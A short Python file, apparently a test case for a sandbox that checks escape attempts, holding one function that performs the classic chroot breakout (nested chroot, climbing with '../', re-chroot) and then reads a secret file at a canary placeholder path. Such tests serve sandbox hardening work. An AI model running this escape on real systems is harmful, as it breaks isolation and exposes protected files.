"""Leaves by chroot and climbing."""

import os


def attack(x):
    os.mkdir("/tmp/jail")
    os.chroot("/tmp/jail")
    os.chdir("../" * 40)
    os.chroot(".")
    return open("@CANARY@/secret").read()
